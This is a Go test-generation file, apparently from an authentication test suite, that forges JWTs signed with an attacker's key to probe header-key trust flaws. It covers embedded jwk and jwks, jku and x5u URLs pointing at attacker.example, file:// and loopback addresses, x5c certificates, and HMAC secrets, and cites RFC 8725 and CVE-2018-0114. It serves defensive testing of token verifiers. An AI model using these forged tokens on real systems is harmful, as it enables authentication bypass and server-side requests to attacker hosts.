package authtest

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/pem"
	"strings"
)

// broughtAttacks are signed by the attacker's key of the right kind; most bring it along,
// or say where it is to be had. The keys are the target's own (RFC 8725 §3.10), and a
// header that has another is one that the target believes before it has checked it.
func broughtAttacks(f *forger) {
	key, sign := f.attacker(f.alg)
	by := func(name, why string, more ...string) {
		header := headerOf(quote(f.alg), append([]string{`"typ":` + quote(f.typ)}, more...)...)
		f.add("attacker's key, "+name, f.tokenBy(sign, header, f.payload()), why)
	}
	const other = "It was signed by a key that the target does not have: the signature is not checked (RFC 7515 §5.2)."
	by("no kid", other)
	by("its own kid", other, `"kid":"attacker"`)
	if f.kid != "" {
		by("the honest kid", other, `"kid":`+quote(f.kid))
	}

	const jwkWhy = "The key in the header was believed (RFC 8725 §3.10; CVE-2018-0114)."
	jwk := jwkOf(key)
	named := strings.TrimSuffix(jwk, "}") + `,"alg":` + quote(f.alg) + `,"kid":` + quote(f.kid) + `,"use":"sig"}`
	kid := `"kid":` + quote(f.kid)
	by("jwk", jwkWhy, `"jwk":`+jwk)
	by("jwk and the honest kid", jwkWhy, kid, `"jwk":`+named)
	by("jwk as a text", jwkWhy, `"jwk":`+quote(jwk))
	by("jwk in an array", jwkWhy, `"jwk":[`+jwk+`]`)
	by("jwks", jwkWhy, `"jwks":{"keys":[`+named+`]}`)
	by("jwk in upper case", jwkWhy, `"JWK":`+jwk)
	by("kid is the jwk", jwkWhy, `"kid":`+quote(jwk))

	const url = "The URL in the header was fetched and believed (RFC 8725 §3.10); it also makes the target call whom the attacker likes."
	set := "data:application/json;base64," + base64.StdEncoding.EncodeToString([]byte(`{"keys":[`+named+`]}`))
	for _, c := range []struct{ name, url string }{
		{"", "https://attacker.example/jwks.json"},
		{", data URL", set},
		{", file URL", "file:///tmp/jwks.json"},
		{", loopback", "http://127.0.0.1:1/jwks.json"},
		{", without a scheme", "//attacker.example/jwks.json"},
		{", issuer as userinfo", strings.TrimRight(f.text("iss"), "/") + "@attacker.example/jwks.json"},
	} {
		by("jku"+c.name, url, kid, `"jku":`+quote(c.url))
	}
	f.add("attacker's key, issuer is the attacker", f.tokenBy(sign, f.header(), f.with("iss", `"https://attacker.example"`)),
		"The keys were fetched from whatever issuer the token names, before anything of it was believed (RFC 8725 §3.8, §3.10).")
	f.broughtCertificates(url)

	// A secret in the header needs no public key at all.
	oct := `"jwk":` + jwkOf([]byte(attackerSecret))
	if family(f.alg) != "HS" {
		header := headerOf(`"HS256"`, `"typ":`+quote(f.typ), oct)
		f.add("attacker's secret, jwk", f.tokenBy(signHMAC(hashOf("HS256"), []byte(attackerSecret)), header, f.payload()), jwkWhy)
	}
}

// broughtCertificates bring a certificate of the attacker's making. An HMAC secret has
// none; there the attack changes to ES256 as well.
func (f *forger) broughtCertificates(url string) {
	alg := f.alg
	if family(alg) == "HS" {
		alg = "ES256"
	}
	key, sign := f.attacker(alg)
	der := f.certificate(key)
	sum := sha256.Sum256([]byte(der))
	x5c := `"x5c":["` + base64.StdEncoding.EncodeToString([]byte(der)) + `"]`
	x5t := `"x5t#S256":"` + b64(string(sum[:])) + `"`
	text := string(pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE", Bytes: []byte(der)}))
	const why = "The certificate in the header was believed, and nobody asked who signed it (RFC 7515 §4.1.6, RFC 8725 §3.10)."
	for _, c := range []struct {
		name, why string
		more      []string
	}{
		{"x5c", why, []string{x5c}},
		{"x5c and the honest kid", why, []string{`"kid":` + quote(f.kid), x5c}},
		{"x5c and its thumbprint", why, []string{x5c, x5t}},
		{"thumbprint alone", why, []string{x5t}},
		{"jwk with x5c", why, []string{`"jwk":` + strings.TrimSuffix(jwkOf(key), "}") + "," + x5c + "}"}},
		{"PEM in the header", why, []string{`"pem":` + quote(text)}},
		{"x5u", url, []string{`"x5u":"https://attacker.example/cert.pem"`}},
		{"x5u, data URL", url, []string{`"x5u":"data:application/x-pem-file;base64,` + base64.StdEncoding.EncodeToString([]byte(text)) + `"`}},
	} {
		header := headerOf(quote(alg), append([]string{`"typ":` + quote(f.typ)}, c.more...)...)
		f.add("attacker's certificate, "+c.name, f.tokenBy(sign, header, f.payload()), c.why)
	}
}
